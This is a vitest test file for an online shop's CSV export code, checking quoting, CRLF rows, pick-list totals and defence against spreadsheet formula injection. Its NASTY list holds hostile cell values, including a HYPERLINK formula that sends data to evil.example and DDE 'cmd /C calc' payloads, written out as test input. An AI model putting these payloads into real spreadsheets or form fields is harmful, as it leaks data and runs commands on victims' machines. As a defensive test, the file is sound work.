import { describe, expect, test } from 'vitest';
import type { AdminOrder } from '../../../common/contracts/admin';
import { csvCell, newsletterCsv, ordersCsv, pickListCsv, toCsv } from './csv-export';

/**
 * A strict RFC 4180 reader (what a spreadsheet does on open): quoted fields with "" escapes, CRLF
 * rows; throws on anything malformed, so a cell that breaks out of its quotes fails the test.
 */
function parseCsv(doc: string): string[][] {
  const separator = ',';
  const text = doc.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r') cell += text[i++];
    }
    row.push(cell);
    if (text[i] === separator) {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} after a field`);
    }
  }
  if (row.length) rows.push(row);
  return rows;
}

/** What a spreadsheet would take as a formula. */
const isFormula = (cell: string) => /^(?:\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r\n])/.test(cell);

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1-555-0100',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  'Ada;=cmd|\' /C calc\'!A0',
  'x; +1; -2; @3',
  'a,"b",\r\nc',
];

function order(over: Partial<AdminOrder>): AdminOrder {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    orderNumber: 'FIFTY-AAAA-BBBB',
    stripePaymentIntentId: 'pi_1',
    customerEmail: 'ada@example.com',
    customerFirstName: 'Ada',
    customerLastName: 'Lovelace',
    customerPhone: null,
    shippingAddress: '1 Way',
    shippingCity: 'Springfield',
    shippingState: 'IL',
    shippingZip: '62701',
    shippingCountry: 'US',
    shippingMethod: 'standard',
    subtotal: '45.00',
    discountCode: null,
    discountAmount: '0.00',
    tax: '0.00',
    shipping: '8.99',
    total: '53.99',
    status: 'pending',
    isTest: false,
    items: [
      {
        productName: 'Static Tee',
        productPrice: '45.00',
        quantity: 1,
        selectedSize: 'M',
        selectedColor: null,
        productImage: null,
        editionNumbers: [3],
        editionSize: 50,
      },
    ],
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    ...over,
  };
}

describe('csv export', () => {
  test('every field is quoted; quotes are doubled', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(12)).toBe('"12"');
  });

  test('documents have a BOM, a header and CRLF line ends', () => {
    expect(toCsv(['A', 'B'], [['1', '2']])).toBe('\uFEFF"A","B"\r\n"1","2"\r\n');
  });

  test('opened with a CSV parser, hostile text stays one cell and no cell is a formula, also when ; separates cells', () => {
    const orders = NASTY.map((text, i) =>
      order({
        orderNumber: `FIFTY-${i}`,
        customerEmail: text,
        customerFirstName: text,
        customerLastName: text,
        customerPhone: text,
        shippingAddress: text,
        shippingCity: text,
        discountCode: text,
        items: [{ ...order({}).items[0]!, productName: text, selectedColor: text }],
      }),
    );
    const csv = ordersCsv(orders);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(1 + NASTY.length);
    const width = rows[0]!.length;
    for (const [i, row] of rows.entries()) {
      expect(row, `row ${i}`).toHaveLength(width);
      for (const cell of row) {
        expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
        // A spreadsheet set to ';' as its separator splits the cell: no part may start a formula either.
        for (const part of cell.split(';')) expect(isFormula(part), JSON.stringify(cell)).toBe(false);
      }
    }
    // The text itself survives (after the apostrophe), so the owner still reads what the shopper typed.
    const email = rows[0]!.indexOf('Email');
    expect(rows.slice(1).map((r) => r[email])).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1-555-0100",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'\r=1+1",
      "'\n=1+1",
      "'  =1+1",
      "'＝1+1",
      "Ada;'=cmd|' /C calc'!A0",
      "x;' +1;' -2;' @3",
      'a,"b",\r\nc',
    ]);
  });

  test('offline-gateway orders are marked as test orders', () => {
    const rows = parseCsv(ordersCsv([order({ isTest: true }), order({ orderNumber: 'FIFTY-REAL', isTest: false })]));
    const col = rows[0]!.indexOf('Test order');
    expect(col).toBeGreaterThan(-1);
    expect(rows[1]![col]).toBe('TEST: not charged');
    expect(rows[2]![col]).toBe('');
  });

  test('the country code stays its own column to filter by; its name and the address as its post writes it come last', () => {
    const rows = parseCsv(
      ordersCsv([
        order({}),
        order({
          orderNumber: 'FIFTY-PARIS',
          shippingAddress: '12 rue de la Roquette',
          shippingCity: 'Paris',
          shippingState: '',
          shippingZip: '75011',
          shippingCountry: 'FR',
        }),
      ]),
    );
    const [header, us, fr] = rows;
    expect(header!.slice(-2)).toEqual(['Country name', 'Postal address']);
    expect(us![header!.indexOf('Country')]).toBe('US');
    expect(fr![header!.indexOf('Country')]).toBe('FR');
    expect(fr![header!.indexOf('Country name')]).toBe('France');
    expect(fr![header!.indexOf('Postal address')]).toBe('Ada Lovelace / 12 rue de la Roquette / 75011 PARIS / France');
    expect(us![header!.indexOf('Postal address')]).toBe('Ada Lovelace / 1 Way / SPRINGFIELD, IL 62701 / United States');
  });

  test('newsletter export', () => {
    const csv = newsletterCsv([
      { id: 'x', email: '=cmd@x.com', subscribedAt: '2025-01-01T00:00:00.000Z', subscribed_at: '' },
    ]);
    expect(parseCsv(csv)).toEqual([
      ['Email', 'Signed up', 'Status'],
      ["'=cmd@x.com", '2025-01-01T00:00:00.000Z', 'Subscribed'],
    ]);
  });
});

describe('pick list', () => {
  test('pieces to pick per product and size from paid orders not yet shipped, sizes in run order', () => {
    const line = (productName: string, selectedSize: string | null, quantity: number) => ({
      ...order({}).items[0]!,
      productName,
      selectedSize,
      selectedColor: 'Black',
      quantity,
    });
    const csv = pickListCsv(
      [
        order({ orderNumber: 'FIFTY-1', status: 'confirmed', items: [line('Run Tee', 'M', 2), line('Run Tee', 'XS', 1)] }),
        // Over $200: the pick list names it as signed-for (common/domain/fulfilment-promises.ts).
        order({ orderNumber: 'FIFTY-2', status: 'processing', total: '250.00', items: [line('Run Tee', 'm', 1)] }),
        order({ orderNumber: 'FIFTY-3', status: 'shipped', items: [line('Run Tee', 'L', 5)] }),
        order({ orderNumber: 'FIFTY-4', status: 'pending', items: [line('Run Tee', 'L', 5)] }),
      ],
      (name) => (name === 'Run Tee' ? ['XS', 'S', 'M', 'L'] : []),
    );
    expect(parseCsv(csv)).toEqual([
      ['Product', 'Size', 'Colour', 'Pieces to pick', 'Orders', 'Signature required (orders)'],
      ['Run Tee', 'XS', 'Black', '1', 'FIFTY-1', ''],
      ['Run Tee', 'M', 'Black', '3', 'FIFTY-1 FIFTY-2', 'FIFTY-2'],
    ]);
  });
});
